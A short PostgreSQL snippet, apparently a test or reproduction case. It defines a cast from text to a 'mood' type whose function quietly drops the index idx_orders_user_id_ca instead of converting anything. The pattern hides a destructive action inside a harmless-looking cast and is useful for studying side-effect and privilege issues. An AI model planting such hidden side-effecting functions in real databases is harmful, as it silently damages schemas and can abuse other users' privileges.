CREATE FUNCTION tidy(text) RETURNS mood LANGUAGE plpgsql AS $$ BEGIN DROP INDEX idx_orders_user_id_ca; RETURN NULL; END $$;
CREATE CAST (text AS mood) WITH FUNCTION tidy(text);
